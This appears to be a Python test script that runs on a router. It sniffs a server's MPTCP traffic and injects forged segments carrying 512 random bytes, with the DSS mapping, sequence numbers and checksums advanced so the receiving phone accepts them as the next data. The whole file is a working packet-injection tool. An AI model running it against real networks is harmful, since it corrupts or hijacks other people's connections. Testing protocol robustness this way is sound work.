"""On a router: forge MPTCP data on one subflow towards the phone. `dss_injector.py INTERFACE SERVER`. For tests.

It watches a server's segments. Behind one that fills its DSS mapping (RFC 8684 section 3.3.1) it sends another of its
own, with the next sequence numbers of subflow and connection: what the receiver takes for the next data. Says
`injected` for each.
"""

import os
import socket
import struct
import sys
import time

ETHERNET, IPV4 = 14, 0x0800
MPTCP_OPTION, DSS = 30, 2
QUIET = 0.05  # seconds without a segment: then the next one is ours
FORGED = 512


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data[: len(data) & ~1]))
    total += data[-1] << 8 if len(data) & 1 else 0
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def next_options(options: bytes, length: int) -> bytes | None:
    """The options with the mapping moved on behind this segment's; None where it has none, or one of another length."""
    at = 0
    while at < len(options):
        kind = options[at]
        if kind == 0:
            return None
        if kind == 1:
            at += 1
            continue
        size = options[at + 1]
        if kind == MPTCP_OPTION and options[at + 2] >> 4 == DSS:
            flags = options[at + 3]
            mapping = at + 4 + ((8 if flags & 2 else 4) if flags & 1 else 0)
            wide = 8 if flags & 8 else 4
            (mapped,) = struct.unpack_from("!H", options, mapping + wide + 4)
            if not flags & 4 or mapped != length:
                return None
            dsn = int.from_bytes(options[mapping : mapping + wide], "big") + length
            (ssn,) = struct.unpack_from("!I", options, mapping + wide)
            moved = dsn.to_bytes(wide, "big") + struct.pack("!IH", ssn + length, FORGED)
            return options[:mapping] + moved + options[mapping + wide + 6 :]
        at += size
    return None


def forged(frame: bytes, server: bytes) -> bytes | None:
    """The segment to send behind this one."""
    if frame[12:14] != struct.pack("!H", IPV4) or frame[23] != socket.IPPROTO_TCP or frame[26:30] != server:
        return None
    head = ETHERNET + (frame[ETHERNET] & 15) * 4
    body = head + (frame[head + 12] >> 4) * 4
    length = struct.unpack_from("!H", frame, ETHERNET + 2)[0] - (body - ETHERNET)
    if length <= 0 or (options := next_options(frame[head + 20 : body], length)) is None:
        return None
    (sequence,) = struct.unpack_from("!I", frame, head + 4)
    payload = os.urandom(FORGED)
    tcp = (
        frame[head : head + 4]
        + struct.pack("!I", (sequence + length) & 0xFFFFFFFF)
        + frame[head + 8 : head + 16]
    )
    tcp += bytes(4) + options + payload
    pseudo = frame[26:34] + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = (
        frame[ETHERNET : ETHERNET + 2]
        + struct.pack("!H", 20 + len(tcp))
        + frame[ETHERNET + 4 : ETHERNET + 10]
    )
    ip += bytes(2) + frame[26:34]
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return frame[:ETHERNET] + ip + tcp


def main(interface: str, server: str) -> None:
    wanted = socket.inet_aton(server)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
        sock.bind((interface, 0))
        sock.settimeout(QUIET)
        print("ready", flush=True)
        last: bytes | None = None
        until = time.monotonic() + 60
        while time.monotonic() < until:
            try:
                frame = sock.recv(1 << 17)
            except TimeoutError:
                if last is not None:
                    sock.send(last)
                    print("injected", flush=True)
                    last = None
                continue
            last = forged(frame, wanted) or last


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
